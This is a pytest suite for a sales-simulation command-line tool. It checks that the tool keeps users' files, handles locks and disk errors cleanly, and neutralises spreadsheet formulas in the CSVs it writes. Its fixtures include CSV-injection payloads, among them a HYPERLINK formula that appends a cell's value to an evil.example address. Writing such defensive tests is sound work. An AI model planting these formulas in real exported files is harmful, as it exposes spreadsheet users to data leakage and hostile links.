"""Nothing lost (issue 14): output folders, names, leftovers, locks, CSV cells, labels, OS errors.

Each test first reproduces a failure a user met: a folder emptied, a name that
was a path, a plan deleted by a re-run, a formula in a CSV, a pod name read as
maths, a traceback for a full disk or a closed pipe.
"""

from __future__ import annotations

import csv
import errno
import json
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from sim.cli.main import main
from sim.files.csvsafe import neutralise, safe_frame, write_csv
from sim.files.outdir import (
    LOCK_NAME,
    MANIFEST_NAME,
    OutputError,
    OutputFolder,
    remove_leftovers,
)

ROOT = Path(__file__).resolve().parents[2]

SMALL = """
name = "small"
seed = 3
replications = 1
horizon_days = 40
sample_interval_days = 5
[leads]
arrivals_per_day = 2
mean_deal_value = 10000
segments = [{ name = "east", share = 0.5 }, { name = "west", share = 0.5 }]
[stages.prospecting]
pass_prob = 0.6
mean_effort_days = 0.3
[stages.qualification]
pass_prob = 0.6
mean_effort_days = 0.4
[stages.closing]
pass_prob = 0.5
mean_effort_days = 0.5
[structures.allin]
generalists = 3
[structures.conveyor]
lead_gen = 1
qualifiers = 1
closers = 1
account_managers = 1
"""

HOSTILE_NAMES = """
name = "hostile"
seed = 4
replications = 2
horizon_days = 40
sample_interval_days = 5
[leads]
arrivals_per_day = 2
mean_deal_value = 10000
segments = [{ name = "=HYPERLINK(\\"http://x\\")", share = 0.5 }, { name = "@west", share = 0.5 }]
tiers = [{ name = "+big", share = 1.0 }]
[stages.prospecting]
pass_prob = 0.6
mean_effort_days = 0.3
[stages.qualification]
pass_prob = 0.6
mean_effort_days = 0.4
[stages.closing]
pass_prob = 0.5
mean_effort_days = 0.5
[structures.allin]
generalists = 3
[[structures.pods.pods]]
name = "Pod $\\\\x$"
segments = ["=HYPERLINK(\\"http://x\\")"]
lead_gen = 1
qualifiers = 1
closers = 1
account_managers = 1
[[structures.pods.pods]]
name = "-pod"
segments = ["@west"]
lead_gen = 1
qualifiers = 1
closers = 1
account_managers = 1
"""


@pytest.fixture
def scenario_file(tmp_path) -> Path:
    path = tmp_path / "small.toml"
    path.write_text(SMALL)
    return path


def simulate(scenario_file: Path, out: Path, *extra: str) -> int:
    return main(["simulate", str(scenario_file), "--out", str(out), "--no-plots", *extra])


def manifest_files(folder: Path) -> set[str]:
    return set(json.loads((folder / MANIFEST_NAME).read_text())["files"])


# -- 1. an existing folder is never emptied ---------------------------------


@pytest.mark.parametrize(
    "command",
    ["simulate", pytest.param("compare", marks=pytest.mark.integration), "plan"],  # compare: 16 s
)
def test_a_folder_with_a_users_file_is_refused_and_kept(tmp_path, scenario_file, capsys, command):
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.docx").write_text("x")
    args = [command, str(scenario_file), "--out", str(mine)]
    args += {"simulate": ["--no-plots"], "compare": ["--no-independent"]}.get(command, [])
    args += ["--wins-per-quarter", "1", "--criterion", "mean"] if command == "plan" else []
    assert main(args) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert err == [
        f"{mine}: exists and holds files salesim did not write (thesis.docx); choose another "
        "--out, or add --overwrite to replace only salesim's own files there"
    ]
    assert sorted(p.name for p in mine.iterdir()) == ["thesis.docx"]
    assert main([*args, "--overwrite"]) == 0
    assert (mine / "thesis.docx").read_text() == "x"
    assert "thesis.docx" not in manifest_files(mine)
    assert main(args) == 0  # salesim's own folder now: a plain re-run replaces its files
    assert (mine / "thesis.docx").read_text() == "x"


def test_backtest_keeps_a_users_file(tmp_path, capsys):
    export = ROOT / "scenarios" / "examples" / "crm_export.csv"
    ours = tmp_path / "ours.toml"
    assert main(["calibrate", str(export), "--structure", "conveyor", "--out", str(ours)]) == 0
    out = tmp_path / "bt"
    out.mkdir()
    (out / "notes.md").write_text("mine")
    args = ["backtest", str(ours), str(export), "--out", str(out), "--replications", "2"]
    assert main([*args, "--no-plots"]) == 2
    assert "holds files salesim did not write (notes.md)" in capsys.readouterr().err
    assert main([*args, "--no-plots", "--overwrite"]) == 0
    assert (out / "notes.md").read_text() == "mine"
    assert {"backtest.csv", "report.txt"} <= manifest_files(out)
    for name in ("backtest.csv", "outside.csv"):
        assert _formula_cells(out / name) == [], name


def test_calibrate_never_replaces_a_scenario_it_did_not_write(tmp_path, capsys):
    export = ROOT / "scenarios" / "examples" / "crm_export.csv"
    mine = tmp_path / "pods.toml"
    mine.write_text("# my own scenario\n")
    args = ["calibrate", str(export), "--structure", "conveyor", "--out", str(mine)]
    assert main(args) == 2
    assert "exists and salesim did not write it" in capsys.readouterr().err
    assert mine.read_text() == "# my own scenario\n"
    ours = tmp_path / "ours.toml"
    args[-1] = str(ours)
    assert main(args) == 0 and main(args) == 0  # its own file: replaced on a re-run


@pytest.mark.integration  # over 20 s of CPU: make test stays under 4 minutes
def test_a_rerun_replaces_its_files_keeps_others_and_drops_its_stale_ones(tmp_path, scenario_file):
    out = tmp_path / "out"
    assert main(["compare", str(scenario_file), "--out", str(out)]) == 0
    assert (out / "independent" / "leads.parquet").exists() and (out / "report.html").exists()
    (out / "notes.txt").write_text("keep me")
    assert simulate(scenario_file, out) == 0
    # compare's report and independent run belonged to the old results: gone with them
    assert not (out / "report.html").exists() and not (out / "independent").exists()
    assert (out / "notes.txt").read_text() == "keep me"
    on_disk = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()}
    assert on_disk == manifest_files(out) | {"notes.txt", MANIFEST_NAME}


def test_a_result_edited_by_hand_is_not_replaced_without_overwrite(tmp_path, scenario_file, capsys):
    out = tmp_path / "out"
    assert simulate(scenario_file, out) == 0
    (out / "kpis.csv").write_text("my edits")
    capsys.readouterr()
    assert simulate(scenario_file, out) == 2
    assert capsys.readouterr().err.strip() == (
        f"{out}: kpis.csv: changed since salesim wrote it; move it away, or add --overwrite "
        "to replace it"
    )
    assert (out / "kpis.csv").read_text() == "my edits"
    assert simulate(scenario_file, out, "--overwrite") == 0
    assert (out / "kpis.csv").read_text() != "my edits"


def test_a_users_file_named_like_an_output_is_refused_in_an_owned_folder(
    tmp_path, scenario_file, capsys
):
    out = tmp_path / "out"
    assert simulate(scenario_file, out) == 0
    (out / "leads.parquet").unlink()
    (out / "leads.parquet").write_text("my own table")  # not what salesim wrote there
    capsys.readouterr()
    assert simulate(scenario_file, out) == 2
    assert "leads.parquet: changed since salesim wrote it" in capsys.readouterr().err
    assert (out / "leads.parquet").read_text() == "my own table"


def test_a_failed_write_puts_the_previous_results_back(tmp_path, scenario_file, monkeypatch):
    out = tmp_path / "out"
    assert simulate(scenario_file, out) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    import sim.files.outdir

    real = sim.files.outdir._move
    moves = []

    def failing_move(source, target):
        moves.append(target)
        if len(moves) == 12:  # mid-swap: old files moved aside, some new ones in
            raise OSError(errno.ENOSPC, "No space left on device", str(target))
        real(source, target)

    monkeypatch.setattr(sim.files.outdir, "_move", failing_move)
    assert simulate(scenario_file, out, "--seed", "99") == 2
    monkeypatch.setattr(sim.files.outdir, "_move", real)
    assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()} == before
    assert {p.name for p in tmp_path.iterdir()} == {"small.toml", "out"}


# -- 2. names that are paths -------------------------------------------------


@pytest.mark.parametrize("name", [".", "..", "sweeps", "Bench", ".hidden", "a/b", "x" * 101])
def test_a_scenario_name_must_be_a_folder_name(tmp_path, scenario_file, capsys, name, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "results").mkdir()
    (tmp_path / "results" / ".gitkeep").write_text("")
    code = main(["simulate", str(scenario_file), "--no-plots", "--set", f"name={name}"])
    assert code == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith(f"--set name={name}: ")
    assert [p.name for p in (tmp_path / "results").iterdir()] == [".gitkeep"]


# -- 3. simulate keeps what plan wrote ---------------------------------------


@pytest.mark.integration  # over 20 s of CPU: make test stays under 4 minutes
def test_simulate_and_compare_keep_the_plan_folder(tmp_path, scenario_file, monkeypatch):
    monkeypatch.chdir(tmp_path)
    plan = ["plan", str(scenario_file), "--wins-per-quarter", "1", "--criterion", "mean"]
    assert main([*plan, "--no-plots", "--structures", "allin"]) == 0
    plan_files = sorted(p.name for p in (tmp_path / "results" / "small" / "plan").iterdir())
    assert "plan.csv" in plan_files
    assert main(["simulate", str(scenario_file), "--no-plots"]) == 0
    assert main(["compare", str(scenario_file), "--no-independent"]) == 0
    after = sorted(p.name for p in (tmp_path / "results" / "small" / "plan").iterdir())
    assert after == plan_files
    assert not any(name.startswith("plan") for name in manifest_files(tmp_path / "results/small"))


# -- 4. CSV cells a spreadsheet would run ------------------------------------


def test_neutralise_follows_owasp():
    assert [neutralise(v) for v in ("=1+2", "+1", "-x", "@sum", "\tx", "\rx", "ok", "")] == [
        "'=1+2", "'+1", "'-x", "'@sum", "'\tx", "'\rx", "ok", ""
    ]  # fmt: skip
    assert neutralise(-3.5) == -3.5 and neutralise(None) is None
    df = pd.DataFrame(
        {
            "=name": ["=cmd", "plain"],
            "value": [-1.0, 2.0],
            "kind": pd.Categorical(["@a", "b"]),
        }
    )
    safe = safe_frame(df)
    assert list(safe.columns) == ["'=name", "value", "kind"]
    assert safe["'=name"].tolist() == ["'=cmd", "plain"]
    assert safe["value"].tolist() == [-1.0, 2.0]  # numbers stay numbers
    assert safe["kind"].astype(str).tolist() == ["'@a", "b"]
    assert df["=name"].tolist() == ["=cmd", "plain"]  # the caller's frame is untouched


def _formula_cells(path: Path) -> list[str]:
    """Cells of a CSV that a spreadsheet would evaluate (text starting with = + - @)."""
    found = []
    with open(path, newline="", encoding="utf-8") as handle:
        for row in csv.reader(handle):
            for cell in row:
                if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    continue
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


@pytest.fixture(scope="module")
def hostile_compare(tmp_path_factory) -> tuple[Path, Path]:
    """A comparison of a scenario whose segment, tier and pod names are formulas and maths."""
    tmp_path = tmp_path_factory.mktemp("hostile")
    scenario = tmp_path / "hostile.toml"
    scenario.write_text(HOSTILE_NAMES)
    out = tmp_path / "out"
    assert main(["compare", str(scenario), "--out", str(out), "--no-independent"]) == 0
    return scenario, out


def test_no_csv_salesim_writes_holds_a_formula(hostile_compare, tmp_path):
    scenario, out = hostile_compare
    assert main(["export-crm", str(out), "--structure", "pods"]) == 0
    assert main(["export-crm", str(out), "--shape", "history", "--structure", "pods"]) == 0
    plan = tmp_path / "plan"
    assert main(["plan", str(scenario), "--wins-per-quarter", "1", "--criterion", "mean",
                 "--structures", "allin", "--out", str(plan), "--no-plots"]) == 0  # fmt: skip
    csvs = sorted([*out.rglob("*.csv"), *plan.rglob("*.csv")])
    names = {p.name for p in csvs}
    assert {"territories.csv", "kpis.csv", "compare.csv", "claims.csv", "crm_leads.csv"} <= names
    assert {"crm_history.csv", "plan.csv", "path.csv", "stage_summary.csv"} <= names
    territories = (out / "territories.csv").read_text()
    assert "'=HYPERLINK" in territories and "'@west" in territories  # the names are there, inert
    for path in csvs:
        assert _formula_cells(path) == [], path
    # export-crm's files are salesim's outputs in salesim's folder: in its manifest
    assert {"crm_leads.csv", "crm_history.csv"} <= manifest_files(out)


def test_calibrate_lists_a_hostile_lead_id_inertly(tmp_path, capsys):
    export = tmp_path / "export.csv"
    lines = (ROOT / "scenarios" / "examples" / "crm_export.csv").read_text().splitlines()
    header = lines[0].split(",")
    row = lines[1].split(",")
    row[header.index("lead_id")] = '"=HYPERLINK(""http://evil.example/""&B2,""open"")"'
    row[header.index("created_at")] = "not a date"
    export.write_text("\n".join([lines[0], *lines[1:], ",".join(row)]) + "\n")
    out = tmp_path / "ours.toml"
    args = ["calibrate", str(export), "--structure", "conveyor", "--out", str(out)]
    assert main(args) == 2
    listed = tmp_path / "ours_unusable_rows.csv"
    assert "'=HYPERLINK" in listed.read_text()
    assert _formula_cells(listed) == []


def test_write_csv_is_atomic(tmp_path):
    path = tmp_path / "t.csv"
    write_csv(pd.DataFrame({"a": ["=x"]}), path)
    assert path.read_text() == "a\n'=x\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.csv"]


# -- 7. one line, not a traceback ------------------------------------------


def test_a_full_disk_is_one_line_and_the_old_results_stay(
    tmp_path, scenario_file, capsys, monkeypatch
):
    out = tmp_path / "out"
    assert simulate(scenario_file, out) == 0
    before = (out / "leads.parquet").read_bytes()
    capsys.readouterr()
    import sim.results.folder

    def full(df, path, provenance):
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr(sim.results.folder, "write_parquet", full)
    assert simulate(scenario_file, out, "--seed", "9") == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert err[-1].endswith("leads.parquet: No space left on device")
    assert "Traceback" not in "\n".join(err)
    assert (out / "leads.parquet").read_bytes() == before
    assert not [p for p in out.iterdir() if p.name.startswith(".")]


@pytest.mark.parametrize(
    ("make_out", "expected"),
    [
        (lambda tmp: tmp / "afile" / "sub", "cannot create (Not a directory)"),
        (lambda tmp: tmp / ("n" * 300), "File name too long"),
        (lambda tmp: tmp / "afile", "exists and is not a folder; --out names a folder"),
    ],
)
def test_an_unusable_out_is_refused_before_simulating(
    tmp_path, scenario_file, capsys, make_out, expected
):
    (tmp_path / "afile").write_text("x")
    out = make_out(tmp_path)
    assert simulate(scenario_file, out) == 2
    captured = capsys.readouterr()
    assert captured.err.strip().splitlines()[-1] == f"{out}: {expected}"
    assert "salesim: small" not in captured.err  # refused before the run started
    assert sorted(p.name for p in tmp_path.iterdir()) == ["afile", "small.toml"]


def test_a_read_only_out_is_refused_before_simulating(tmp_path, scenario_file, capsys, monkeypatch):
    # Root ignores permission bits, so the refusal of the file system is played here.
    import sim.files.outdir

    real_open = open

    def read_only(path, *args, **kwargs):
        if str(path).endswith("probe"):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(sim.files.outdir, "open", read_only, raising=False)
    out = tmp_path / "ro"
    assert simulate(scenario_file, out) == 2
    assert capsys.readouterr().err.strip().splitlines()[-1] == (
        f"{out}: cannot write (Permission denied)"
    )
    assert not out.exists()


def test_not_enough_space_is_refused_before_simulating(tmp_path, capsys):
    folder = tmp_path / "out"
    with pytest.raises(OutputError) as caught:
        OutputFolder.claim(folder, needs_bytes=1 << 60)
    assert "not enough free space: the output needs about" in caught.value.problems[0]
    assert not folder.exists()


@pytest.mark.integration  # three interpreters: make test stays under 4 minutes
@pytest.mark.parametrize("command", [["fields"], ["validate", "scenarios/pods.toml"], ["--help"]])
def test_a_closed_pipe_ends_quietly(command):
    done = subprocess.run(
        f"{sys.executable} -m sim {' '.join(command)} | head -c 10",
        shell=True,
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
    )
    assert "Traceback" not in done.stderr and "BrokenPipe" not in done.stderr, done.stderr
    assert len(done.stdout) == 10


# -- 8. leftovers and two runs on one folder ---------------------------------


def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_leftovers_of_dead_runs_are_removed_live_ones_kept(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    dead, alive = _dead_pid(), os.getpid()
    for folder in (
        out / f".salesim-tmp-{dead}",
        out / f".salesim-old-{dead}",
        tmp_path / f".out.tmp-{dead}",  # salesim before manifests
        tmp_path / f".out.old-{dead}",
        out / f".salesim-tmp-{alive}",
        tmp_path / ".other.tmp-1",
    ):
        folder.mkdir()
        (folder / "leads.parquet").write_text("1.7 MB once")
    removed = remove_leftovers(out)
    assert sorted(p.name for p in removed) == sorted(
        [f".salesim-tmp-{dead}", f".salesim-old-{dead}", f".out.tmp-{dead}", f".out.old-{dead}"]
    )
    assert (out / f".salesim-tmp-{alive}").exists() and (tmp_path / ".other.tmp-1").exists()


def test_a_second_run_on_a_locked_folder_is_refused(tmp_path, scenario_file, capsys):
    out = tmp_path / "out"
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        out.mkdir()
        import socket

        lock = {"pid": sleeper.pid, "host": socket.gethostname()}
        (out / LOCK_NAME).write_text(json.dumps(lock))
        assert simulate(scenario_file, out) == 2
        assert capsys.readouterr().err.strip().splitlines()[-1] == (
            f"{out}: another salesim run (PID {sleeper.pid}) is writing here; wait for it to "
            f"finish or choose another --out (if no run is active, delete {out / LOCK_NAME})"
        )
    finally:
        sleeper.kill()
        sleeper.wait()
    # the holder died without cleaning up: its lock is stale and the next run takes over
    assert simulate(scenario_file, out) == 0
    assert not (out / LOCK_NAME).exists()


@pytest.mark.integration
def test_two_runs_at_once_on_one_folder_one_refused_nothing_lost(tmp_path, scenario_file):
    out = tmp_path / "out"
    command = [sys.executable, "-m", "sim", "simulate", str(scenario_file), "--out", str(out),
               "--no-plots", "--set", "horizon_days=400"]  # fmt: skip
    runs = [subprocess.Popen(command, cwd=ROOT, stderr=subprocess.PIPE, text=True)
            for _ in range(2)]  # fmt: skip
    results = [(run.wait(timeout=120), run.stderr.read()) for run in runs]
    codes = sorted(code for code, _ in results)
    assert codes in ([0, 0], [0, 2]), results  # the second waits its turn or is refused
    for code, err in results:
        assert "Traceback" not in err
        if code == 2:
            assert "another salesim run" in err
    assert manifest_files(out) >= {"leads.parquet", "summary.json"}
    assert not [p for p in out.iterdir() if p.name.startswith(".")]


# -- 11. labels are text, never maths ----------------------------------------


def test_a_pod_named_like_maths_is_drawn_as_text(hostile_compare):
    # Before: matplotlib parsed "Pod $\x$" as maths and compare died drawing the figures.
    _, out = hostile_compare
    assert (out / "report.html").exists()
    assert (out / "pod_utilisation.png").stat().st_size > 0  # the pod names were drawn


def test_a_sweep_on_a_folder_another_run_holds_is_refused(tmp_path, capsys):
    from tests.unit.test_sweep import write

    path = write(tmp_path)
    out = tmp_path / "sweep"
    args = ["sweep", str(path), "--out", str(out), "--workers", "1", "--no-plots"]
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        out.mkdir()
        import socket

        (out / LOCK_NAME).write_text(json.dumps({"pid": sleeper.pid, "host": socket.gethostname()}))
        assert main(args) == 2
        assert f"another salesim run (PID {sleeper.pid}) is writing here" in capsys.readouterr().err
        assert sorted(p.name for p in out.iterdir()) == [LOCK_NAME]
    finally:
        sleeper.kill()
        sleeper.wait()
    assert main(args) == 0  # the holder is gone: its lock is stale
    assert not (out / LOCK_NAME).exists()


def test_no_sweep_csv_holds_a_formula(tmp_path):
    from tests.unit.test_sweep import write

    hostile = """
name = "hostile"
scenario = "tiny.toml"
kpis = ["wins_per_30_days", "profit"]
[[grid]]
name = "team"
[[grid.cases]]
label = "=HYPERLINK(\\"http://evil.example\\")"
set = { "structures.conveyor.closers" = 1 }
[[grid.cases]]
label = "@two"
set = { "structures.conveyor.closers" = 2 }
"""
    path = write(tmp_path, hostile)
    out = tmp_path / "out"
    assert main(["sweep", str(path), "--out", str(out), "--workers", "1", "--no-plots"]) == 0
    csvs = sorted(out.glob("*.csv"))
    assert {"sweep_summary.csv", "claims.csv", "crossovers.csv"} <= {p.name for p in csvs}
    assert "'=HYPERLINK" in (out / "sweep_summary.csv").read_text()
    for path in csvs:
        assert _formula_cells(path) == [], path
